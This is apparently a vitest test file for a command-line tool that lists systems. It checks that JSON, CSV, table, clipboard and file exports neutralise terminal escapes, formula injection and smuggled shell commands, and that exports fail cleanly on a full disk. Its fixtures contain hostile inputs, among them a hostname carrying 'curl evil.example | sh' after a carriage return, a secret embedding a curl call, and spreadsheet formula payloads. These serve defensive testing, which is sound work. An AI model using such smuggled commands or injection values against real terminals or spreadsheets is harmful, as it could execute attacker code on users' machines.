/** Output of the program cannot act on a terminal, a spreadsheet or a shell (hazards, N). */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { aHome, open, programPath } from '../support/program.ts';
import { aService, aSystem, onRequest, systemsCalled } from '../support/service.ts';
import { aSmallDisk, canMount, fillBut } from '../support/small-disk.ts';
import { aUserIn, aUserOf, environmentFor, row, runAt, userAt } from '../support/user.ts';

/** An 8-bit CSI that sets the title, an 8-bit OSC, DEL, a direction, a mark of format. */
const hostile = 'web\u009b21t\u009d0;owned\u009c\u007f\u202e\u200b';
const paste = 'web-1\rcurl evil.example | sh\n';

const unsafe = /[\u007f-\u009f\u200b\u202e]/;

const aHostileService = () =>
  aService({
    systems: [
      aSystem({ hostname: hostile, description: ' =1+1', tags: [{ tag: '\t@SUM(A1)' }] }),
      aSystem({ hostname: paste, systemId: 'ID-paste', description: '\u200b+1', connectedFrom: '\u00a0-1' }),
    ],
  });

test('JSON, CSV and table on a pipe hold no control of either set and none of direction; JSON keeps the value', async () => {
  const service = await aHostileService();
  const printed = async (format: string) => runAt(service, 'systems', format);
  const json = await printed('--json');
  expect(json.exitCode).toBe(0);
  expect(json.output).not.toMatch(unsafe);
  expect(json.output).toContain(String.raw`web\u009b21t\u009d0;owned\u009c\u007f\u202e\u200b`);
  const names = (JSON.parse(json.output) as { hostname: string }[]).map(({ hostname }) => hostname);
  expect(new Set(names)).toEqual(new Set([hostile, paste]));
  for (const format of ['--csv', '--table']) {
    const { output } = await printed(format);
    expect(output).not.toMatch(unsafe);
    expect(output).toContain('web‹U+009B›21t');
    expect(output.replaceAll('\r\n', '\n')).not.toContain('\r');
  }
});

test('a cell of the CSV that shows nothing before = + - @ is text', async () => {
  const service = await aHostileService();
  const { output } = await runAt(service, 'systems', '--csv');
  const rows = parse<Record<string, string>>(output, { columns: true });
  const cells = rows.flatMap(({ description, tags, connectedFrom }) => [description, tags, connectedFrom]);
  expect(cells).toEqual(expect.arrayContaining([`' =1+1`, `'␉@SUM(A1)`, `'‹U+200B›+1`, `'‹U+00A0›-1`]));
});

test('exported files and what is copied hold them made visible, and one line for each name', async () => {
  const service = await aHostileService();
  const home = aHome();
  const user = await aUserIn('Northwind', service, { home });
  await user.goesTo('curl');
  await user.presses('copy: name, id').sees(row('▌', 'name'));
  await user.presses('copy it').sees('Copied through your terminal: web-1␍curl');
  expect(copied(user.terminal.raw())).toEqual(['web-1␍curl evil.example | sh␊']);
  await user.presses('mark all matching systems').sees('2 marked');
  await user.presses('copy: name, id').sees('names of the 2 marked');
  await user.pressesKey('down', 'down', 'down', 'down').sees(row('▌', 'names of the 2 marked'));
  await user.presses('copy it').sees('Copied through your terminal: 2 lines');
  const names = copied(user.terminal.raw()).at(-1) ?? '';
  expect(names.split('\n')).toHaveLength(3);
  expect(names).not.toMatch(/[\r\u007f-\u009f\u200b\u202e]/);

  await user.presses('export to CSV and JSON').sees('marked systems: 2 systems');
  await user.presses('write marked systems').sees('Written:');
  const files = readdirSync(home.path).filter((name) => name.startsWith('rollcall-systems-'));
  expect(files).toHaveLength(2);
  for (const file of files) expect(readFileSync(join(home.path, file), 'utf8')).not.toMatch(unsafe);
});

test('a secret with characters that a shell acts on is not copied, and that is said', async () => {
  const { user } = await aUserOf({
    systems: [aSystem({ hostname: 'web-1' })],
    intercept: onRequest('POST', () => ({
      status: 201,
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ id: 7, description: 'tills', key: 'abc\rcurl evil.example' }),
    })),
  });
  await user.presses('create an enrolment key').sees('description');
  await user.createsKey('tills', 'Enrolment key created');
  user.presses('copy the secret');
  await user.sees('Not copied: the secret holds control or invisible characters. v shows it.');
  expect(copied(user.terminal.raw())).toEqual([]);
});

/** Texts sent to the terminal's clipboard, oldest first. */
function copied(raw: string): string[] {
  return raw
    .split('\u001b]52;c;')
    .slice(1)
    .map((rest) => Buffer.from(rest.slice(0, rest.indexOf('\u0007')), 'base64').toString('utf8'));
}

test('where not even what is half can be removed, that is said, and no second folder is tried', async () => {
  const service = await aService({ systems: systemsCalled('web', 200) });
  const home = aHome();
  // The disk is full, then read-only.
  const disk = `import fs from 'node:fs'; import { syncBuiltinESMExports } from 'node:module'; const { writeSync, rmSync } = fs;
    const fail = (code) => { throw Object.assign(new Error(code), { code }); };
    fs.writeSync = (file, bytes, ...more) => (bytes.length > 20_000 ? fail('ENOSPC') : writeSync(file, bytes, ...more));
    fs.rmSync = (path, ...more) => (path.includes('rollcall-systems') ? fail('EROFS') : rmSync(path, ...more));
    syncBuiltinESMExports();`;
  const user = await aUserIn('Northwind', service, {
    home,
    env: { NODE_OPTIONS: `--import data:text/javascript,${encodeURIComponent(disk)}` },
  });
  await user.sees('200 systems');
  await user.presses('export to CSV and JSON').sees('shown systems: 200 systems');
  user.presses('write shown systems');
  await user.sees(/Not exported: writing (CSV|JSON) failed \(ENOSPC\)\. A part is left: remove it\./);
  expect(readdirSync(home.path).some((name) => name.startsWith('rollcall-systems'))).toBe(true);
  await user.leaves();
});

describe.runIf(canMount)('on a disk on which little fits', () => {
  test.each([0, 4, 40])(
    'with %i kB left, an export goes beside the records, whole, and none is left there',
    async (left) => {
      const { home, user, disk } = await aUserOnASmallDisk(left);
      await user.presses('export to CSV and JSON').sees('shown systems: 200 systems');
      await user.presses('write shown systems').sees('Written:');
      expect(readdirSync(disk)).toEqual(['filling']);
      const files = readdirSync(home.changesFolder);
      expect(files).toHaveLength(2);
      for (const name of files.filter((one) => one.endsWith('.json'))) {
        expect(JSON.parse(readFileSync(join(home.changesFolder, name), 'utf8'))).toHaveLength(200);
      }
    },
  );

  test('where neither folder has room it is said which file failed and why, and no part is left in either', async () => {
    // Also room for what the program itself writes meanwhile, and still none for CSV and JSON together.
    const { home, user, disk } = await aUserOnASmallDisk(80, 'state');
    await user.presses('export to CSV and JSON').sees('shown systems: 200 systems');
    await user.presses('write shown systems').sees('Not exported: writing JSON failed (ENOSPC). No part is left.');
    expect(readdirSync(disk).sort()).toEqual(['filling', 'state']);
    expect(home.filesWith('"hostname": "web-1"')).toEqual([]);
    await user.presses('move down').sees(row('▌', 'web-2'));
  });
});

/** A user in a list of 200 systems, in a folder with this many kilobytes left. The list's CSV has 32, its JSON 109. */
async function aUserOnASmallDisk(left: number, stateIn = '') {
  const service = await aService({ systems: systemsCalled('web', 200) });
  const home = aHome();
  const disk = join(home.path, 'disk');
  aSmallDisk(disk, 256);
  const state = stateIn !== '' && { XDG_STATE_HOME: join(disk, stateIn) };
  const env = { ...home.env, ...environmentFor(service), ...state };
  const user = userAt(open(process.execPath, [programPath], { cwd: disk, env }), home);
  await user.opens('Northwind', '200 systems');
  fillBut(disk, left);
  return { home, user, disk };
}
